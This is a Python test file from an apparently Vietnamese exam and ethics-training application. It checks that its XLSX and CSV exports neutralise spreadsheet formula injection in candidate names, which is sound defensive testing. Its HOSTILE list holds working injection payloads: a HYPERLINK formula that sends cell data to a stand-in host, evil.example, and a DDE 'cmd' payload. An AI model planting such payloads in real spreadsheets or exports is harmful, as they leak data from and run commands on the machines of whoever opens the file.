"""Issue #12, point 3: no export turns a name into a live formula.

Candidates whose names start with ``= + - @``, a tab or a carriage return sit an exam; the
results and minutes XLSX (openpyxl before: a live formula) and the HR reports (CSV and XLSX)
are read back: no cell is a formula, and no text cell or CSV field starts like one.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

from ethics_trainer.cli.main import main
from ethics_trainer.clock import FixedClock
from ethics_trainer.exams import (
    live_roster,
    passwords,
    proctor_actions,
    results,
    seal_keys,
    sealing,
    sessions,
)
from ethics_trainer.exams.minutes_export import export_minutes_xlsx
from ethics_trainer.exams.roster import RosterRow
from ethics_trainer.safe_cells import DANGEROUS_START

from ..exams.helpers import make_exam
from .helpers import HR_PASSWORD, sit

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_room(db, sample_content):
    clock = FixedClock()
    setup = make_exam(db, sample_content, clock)
    rows = [RosterRow(name, f"X{i}", name, name) for i, name in enumerate(HOSTILE)]
    sessions.add_roster(db, setup.session.id, rows, clock=clock)
    setup.candidates = live_roster.roster(db, setup.session.id)
    for index, cand in enumerate(setup.candidates):
        if cand.full_name in HOSTILE:
            sit(db, setup, index, clock)
    proctor_actions.add_incident(db, setup.session.id, "=1+1 ghi chú", clock=clock)
    sealing.seal_session(db, setup.session.id, seal_keys.proctor_signer(db))
    return setup


def _assert_safe_workbook(path: Path) -> int:
    """Every sheet: no formula cell, no text starting like a formula; the number of texts."""
    book = load_workbook(path)
    texts = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts += 1
                    assert not cell.value.startswith(DANGEROUS_START), (cell.coordinate, cell.value)
    return texts


def _assert_safe_csv(path: Path, delimiter: str) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=delimiter))
    for row in rows:
        for field in row:
            assert not field.startswith(DANGEROUS_START), field
    return rows


def _hostile_in(path: Path) -> set[str]:
    """Which hostile names appear (as neutralised text) in the workbook."""
    found = set()
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows(values_only=True):
            for value in row:
                for name in HOSTILE:
                    if isinstance(value, str) and name.strip("\t\r")[:6] in value:
                        found.add(name)
    return found


def test_exam_results_and_minutes_are_safe(db, hostile_room, tmp_path) -> None:
    res = results.session_results(db, hostile_room.session.id)
    out = results.export_results_xlsx(res, tmp_path / "results.xlsx")
    assert _assert_safe_workbook(out)
    assert _hostile_in(out) == set(HOSTILE)  # the names are there, as text
    minutes = export_minutes_xlsx(db, hostile_room.session.id, tmp_path / "minutes.xlsx")
    assert _assert_safe_workbook(minutes)
    assert _hostile_in(minutes) == set(HOSTILE)


def test_hr_reports_are_safe(
    db, db_url, hostile_room, tmp_path, sample_content, monkeypatch
) -> None:
    passwords.set_password(db, "admin", "quan-tri-2026")
    passwords.set_password(db, "hr", HR_PASSWORD)
    monkeypatch.setenv("ETHICS_TRAINER_PASSWORD", HR_PASSWORD)
    base = ["--database", db_url, "--content", str(sample_content)]
    for kind in ("completions", "attempts"):
        xlsx = tmp_path / f"{kind}.xlsx"
        assert main([*base, "report", kind, "--format", "xlsx", "-o", str(xlsx), "-q"]) == 0
        _assert_safe_workbook(xlsx)
        assert _hostile_in(xlsx) == set(HOSTILE)
        for delimiter in (",", ";"):
            out = tmp_path / f"{kind}.csv"
            args = ["report", kind, "--format", "csv", "--delimiter", delimiter, "-o", str(out)]
            assert main([*base, *args, "-q"]) == 0
            text = "\n".join(",".join(r) for r in _assert_safe_csv(out, delimiter))
            assert "'=HYPERLINK" in text and "'@SUM" in text
